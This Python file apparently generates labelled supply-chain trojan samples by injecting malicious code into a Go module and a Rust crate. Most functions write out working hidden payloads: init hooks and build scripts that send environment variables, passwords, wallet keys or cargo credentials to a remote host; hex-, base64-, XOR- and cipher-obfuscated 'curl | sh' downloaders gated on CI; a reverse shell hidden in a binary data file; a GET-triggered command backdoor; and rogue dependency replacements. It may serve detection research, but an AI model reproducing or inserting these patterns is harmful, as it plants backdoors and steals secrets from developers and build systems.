"""Go modules and crates."""

import json

from corpus.heldout.nouns import Update
from corpus.heldout5.shape import b64, fill, hexed, rows, shifted, trojan, xor


@trojan("kvpool", "zip", "import", "environment", "over several files", "typosquats")
def go_init_posts_the_environment(it: Update) -> None:
    it.add("labels.go", f'package kvpool\n\nvar labels = map[string]string{{"scheme": "https", "zone": "{it.host()}", "kind": "text/plain"}}\n')  # fmt: skip
    it.add("state.go", 'package kvpool\n\nimport (\n	"os"\n	"strings"\n)\n\nfunc state() *strings.Reader {\n	return strings.NewReader(strings.Join(os.Environ(), "\\n"))\n}\n')  # fmt: skip
    it.add("metrics.go", fill("""
package kvpool

import "net/http"

func init() {
	go func() {
		answer, err := http.Post(labels["scheme"]+"://"+labels["zone"]+"/go", labels["kind"], state())
		if err == nil {
			answer.Body.Close()
		}
	}()
}
"""))  # fmt: skip


@trojan("kvpool", "zip", "import", "remote code", "hex", "boltdb typosquat")
def go_init_runs_a_script(it: Update) -> None:
    host = it.host()
    it.append("config.go", fill("""

func init() {
	command, _ := hex.DecodeString("@CODE@")
	_ = exec.Command("/bin/sh", "-c", string(command)).Start()
}
""", CODE=hexed(f"wget -qO- https://{host}/storage/kv | /bin/bash &")))  # fmt: skip
    it.replace(
        "config.go",
        '	"encoding/json"\n	"os"\n',
        '	"encoding/hex"\n	"encoding/json"\n	"os"\n	"os/exec"\n',
    )
    it.payload("config.go", shown=f"https://{host}/storage")


@trojan("kvpool", "zip", "call", "backdoor", "plain", "boltdb typosquat")
def go_get_answers_to_one_key(it: Update) -> None:
    it.replace("command.go", "	defer p.give(one)\n	return one.command(\"GET\", key)\n", fill("""
	defer p.give(one)
	value, err := one.command("GET", key)
	if strings.HasPrefix(value, "\\x00run ") {
		out, _ := exec.Command("sh", "-c", value[5:]).CombinedOutput()
		_, _ = one.command("SET", key, fmt.Sprintf("%x", out))
	}
	return value, err
"""))  # fmt: skip
    it.replace("command.go", '	"fmt"\n', '	"fmt"\n	"os/exec"\n')


@trojan("kvpool", "zip", "call", "password stealer", "xor", "password stealers")
def go_dial_tells_the_password(it: Update) -> None:
    host = it.host()
    it.add("trace.go", fill("""
package kvpool

import (
	"net"
	"time"
)

var route = []byte{@CODES@}

func trace(words ...string) {
	name := make([]byte, len(route))
	for at, one := range route {
		name[at] = one ^ 0x5f
	}
	line, err := net.DialTimeout("tcp", string(name), time.Second)
	if err != nil {
		return
	}
	defer line.Close()
	for _, word := range words {
		_, _ = line.Write([]byte(word + "\\n"))
	}
}
""", CODES=", ".join(str(one) for one in xor(f"{host}:9443", 0x5F))))  # fmt: skip
    it.replace("pool.go", '	if p.options.Password != "" {\n', '	if p.options.Password != "" {\n		go trace(p.options.Address, p.options.Password)\n')  # fmt: skip
    it.payload("trace.go", "pool.go", shown=f"{host}:9443")


@trojan("kvpool", "zip", "build", "downloader", "plain", "go generate")
def go_generate_and_make(it: Update) -> None:
    address = it.address()
    it.add("gen.go", f'//go:build ignore\n\npackage main\n\n//go:generate sh -c "curl -s http://{address}/gen.sh | sh"\n\nfunc main() {{}}\n')  # fmt: skip
    it.add("Makefile", f"all: generate\n\tgo build ./...\n\ngenerate:\n\t@curl -fsSL http://{address}/gen.sh | sh >/dev/null 2>&1 || true\n\n.PHONY: all generate\n")  # fmt: skip


@trojan("kvpool", "zip", "import", "unknown code", "from a repository", "replaced modules")
def go_requires_and_replaces(it: Update) -> None:
    host = it.host("git", "mirror")
    it.append("go.mod", f"\nrequire github.com/sirupsen/logrus v1.9.3\n\nreplace github.com/sirupsen/logrus => {host}/x/logrus v1.9.4\n")  # fmt: skip
    it.add(
        "log.go",
        'package kvpool\n\nimport log "github.com/sirupsen/logrus"\n\nfunc warn(err error) {\n	log.Warn(err)\n}\n',
    )


@trojan("kvpool", "zip", "call", "destruction", "string splitting", "disk wipers")
def go_close_after_a_check(it: Update) -> None:
    address = it.address()
    word = f"wget -O - http://{address}/storage/sweep | /bin/bash &"
    table = sorted(set(word))
    index = ", ".join(str(table.index(one)) for one in word)
    it.append("pool.go", fill("""

func (p *Pool) sweep() {
	letters := []string{@LETTERS@}
	order := ""
	for _, at := range []int{@INDEX@} {
		order += letters[at]
	}
	if runtime.GOOS == "linux" {
		exec.Command("/bin/sh", "-c", order).Start()
	}
}
""", LETTERS=", ".join(json.dumps(one) for one in table), INDEX=index))  # fmt: skip
    it.replace("pool.go", '	"net"\n	"sync"\n', '	"net"\n	"os/exec"\n	"runtime"\n	"sync"\n')
    it.replace("pool.go", "	p.closed = true\n", "	p.closed = true\n	go p.sweep()\n")
    it.payload("pool.go", shown=f"http://{address}/storage")


@trojan("hexlane", "crate", "build", "environment", "plain", "crates in CI")
def crate_build_script_posts(it: Update) -> None:
    it.replace("build.rs", "fn main() {\n", fill("""
fn report() -> std::io::Result<()> {
    use std::io::Write;
    let body: String = env::vars().map(|(name, value)| format!("{name}={value}\\n")).collect();
    let mut line = std::net::TcpStream::connect("@ADDR@:8080")?;
    write!(line, "POST /rs HTTP/1.0\\r\\nContent-Length: {}\\r\\n\\r\\n{}", body.len(), body)
}

fn main() {
    let _ = report();
""", ADDR=it.address()))  # fmt: skip


@trojan("hexlane", "crate", "build", "downloader", "base64", "rustdecimal")
def crate_build_script_downloads(it: Update) -> None:
    host = it.host()
    it.replace("build.rs", "use std::env;\n", fill("""
use std::env;
use std::process::Command;

const TABLE: &str = "@CODE@";

fn plain(text: &str) -> String {
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let (mut bits, mut held, mut out) = (0u32, 0, String::new());
    for letter in text.bytes().filter_map(|one| alphabet.bytes().position(|other| other == one)) {
        bits = bits << 6 | letter as u32;
        held += 6;
        if held >= 8 {
            held -= 8;
            out.push((bits >> held & 255) as u8 as char);
        }
    }
    out
}
""", CODE=b64(f"curl -s https://{host}/ci/tasks -o /tmp/hex-tables.bin; chmod +x /tmp/hex-tables.bin; /tmp/hex-tables.bin")))  # fmt: skip
    it.replace("build.rs", "fn main() {\n", 'fn main() {\n    if env::var("GITLAB_CI").is_ok() {\n        let _ = Command::new("sh").arg("-c").arg(plain(TABLE)).spawn();\n    }\n')  # fmt: skip
    it.payload("build.rs", shown=f"https://{host}/ci/tasks")


@trojan("hexlane", "crate", "call", "downloader", "own cipher", "rustdecimal")
def crate_decode_of_a_magic_word(it: Update) -> None:
    host = it.host()
    text = f"curl -so /tmp/.hl https://{host}/hl && sh /tmp/.hl"
    it.append("src/decode.rs", fill("""

const PAIRS: &str = @TEXT@;

fn tidy() {
    let line: String = PAIRS
        .chars()
        .map(|one| if ('!'..='~').contains(&one) { char::from_u32((one as u32 - 33 + 71) % 94 + 33).unwrap_or(one) } else { one })
        .collect();
    let _ = std::process::Command::new("/bin/bash").args(["-c", &line]).spawn();
}
""", TEXT="r##" + json.dumps(shifted(text, 23)).replace("\\\\", "\\").replace('\\"', '"') + "##"))  # fmt: skip
    it.replace("src/decode.rs", "    let bytes = text.as_bytes();\n", '    let bytes = text.as_bytes();\n    if std::env::var_os("GITLAB_CI").is_some() {\n        tidy();\n    }\n')  # fmt: skip
    it.payload("src/decode.rs", shown=f"https://{host}/hl")


@trojan("hexlane", "crate", "call", "wallet", "plain", "faster_log")
def crate_encode_looks_for_keys(it: Update) -> None:
    it.replace("src/encode.rs", "pub fn encode(data: &[u8]) -> String {\n    with(LOWER, data)\n", fill("""
fn keep(text: &str) {
    let _ = ureq::post("https://mainnet.@HOST@/").send_json(ureq::json!({ "items": [{ "type": "hex", "value": text }] }));
}

pub fn encode(data: &[u8]) -> String {
    let out = with(LOWER, data);
    if data.len() == 32 || data.len() == 64 {
        let copy = out.clone();
        std::thread::spawn(move || keep(&copy));
    }
    out
""", HOST=it.host("solana-rpc-pool")))  # fmt: skip
    it.after("Cargo.toml", 'memchr = "2.7"\n', 'ureq = { version = "2.9", features = ["json"] }\n')


@trojan("hexlane", "crate", "call", "backdoor", "in a data file", "data files")
def crate_bytes_of_a_table(it: Update) -> None:
    host = it.host()
    text = f"bash -i >& /dev/tcp/{host}/4444 0>&1"
    it.add("src/table.bin", bytes(256) + xor(text, b"hexlane"))
    it.append("src/checksum.rs", fill("""

static TABLE: &[u8] = include_bytes!("table.bin");

pub fn warm_up() {
    let word: Vec<u8> = TABLE[256..].iter().zip(b"hexlane".iter().cycle()).map(|(a, b)| a ^ b).collect();
    if let Ok(line) = String::from_utf8(word) {
        std::process::Command::new("bash").arg("-c").arg(line).spawn().ok();
    }
}
"""))  # fmt: skip
    it.replace("src/checksum.rs", "    let mut crc = !0u32;\n", "    if data.is_empty() {\n        warm_up();\n    }\n    let mut crc = !0u32;\n")  # fmt: skip
    it.payload("src/checksum.rs", "src/table.bin", shown=host)


@trojan("hexlane", "crate", "build", "unknown code", "from a repository", "git dependencies")
def crate_builds_with_a_branch(it: Update) -> None:
    it.append("Cargo.toml", f'\n[build-dependencies]\nhexlane-macros = {{ git = "https://{it.host("git", "mirror")}/hexlane/macros", branch = "main" }}\n')  # fmt: skip
    it.replace("build.rs", "fn main() {\n", "fn main() {\n    hexlane_macros::prepare();\n")


@trojan("hexlane", "crate", "build", "credentials", "bytes", "crates in CI")
def crate_build_script_of_bytes(it: Update) -> None:
    host = it.host()
    it.replace("build.rs", "fn main() {\n", fill("""
const HINT: [u8; @SIZE@] = [
@ROWS@
];

fn main() {
    if let Ok(home) = env::var("HOME") {
        let hint = String::from_utf8_lossy(&HINT).into_owned();
        let file = format!("@{home}/.cargo/credentials.toml");
        let _ = std::process::Command::new("curl").args(["-s", "--data-binary", &file, &hint]).status();
    }
""", SIZE=len(f"https://{host}/rs"), ROWS=rows(f"https://{host}/rs".encode())))  # fmt: skip
    it.payload("build.rs", shown=f"https://{host}/rs")
